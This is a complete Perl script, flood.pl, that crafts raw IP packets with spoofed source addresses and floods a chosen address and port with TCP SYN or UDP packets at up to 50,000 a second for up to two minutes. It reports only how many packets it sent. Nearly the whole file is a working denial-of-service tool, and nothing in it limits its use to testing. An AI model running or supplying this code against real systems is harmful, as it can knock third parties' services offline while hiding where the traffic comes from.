#!/usr/bin/perl
# SPDX-License-Identifier: GPL-2.0-or-later
#
# flood.pl syn|udp ADDRESS PORT RATE SECONDS SOURCE COUNT: sends RATE packets a second, for SECONDS and no longer, in turn
# from COUNT addresses that begin with SOURCE, which need not be ours. Says how many it sent.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time sleep);

my ($kind, $to, $port, $rate, $seconds, $source, $count) = @ARGV;
die "usage: flood.pl syn|udp ADDRESS PORT RATE SECONDS SOURCE COUNT\n" unless $count && $seconds <= 120 && $rate <= 50000;
socket my $socket, PF_INET, SOCK_RAW, 255 or die "socket: $!"; # IPPROTO_RAW: with a header of its own
my ($first, $destination) = (unpack('N', inet_aton $source), inet_aton $to);
my $address = sockaddr_in(0, $destination);

sub checksum {
	my $sum = 0;
	$sum += $_ for unpack 'n*', $_[0];
	$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
	return ~$sum & 0xffff;
}

my ($sent, $start) = (0, time);
while ((my $elapsed = time - $start) < $seconds) {
	for (my $due = int($elapsed * $rate) - $sent; $due > 0; $due--) {
		my $from = pack 'N', $first + $sent % $count;
		my $source_port = 1024 + int($sent / $count) % 60000;
		my $body;
		if ($kind eq 'syn') {
			$body = pack 'n n N N C C n n n', $source_port, $port, $sent, 0, 5 << 4, 2, 64240, 0, 0;
			substr $body, 16, 2, pack 'n', checksum($from . $destination . pack('n n', 6, length $body) . $body);
		} else {
			$body = pack('n n n n', $source_port, $port, 12, 0) . 'data';
		}
		send $socket, pack('C C n n n C C n a4 a4', 0x45, 0, 20 + length $body, 0, 0, 64, $kind eq 'syn' ? 6 : 17, 0,
			$from, $destination) . $body, 0, $address;
		$sent++;
	}
	sleep 0.001;
}
print "$sent\n";
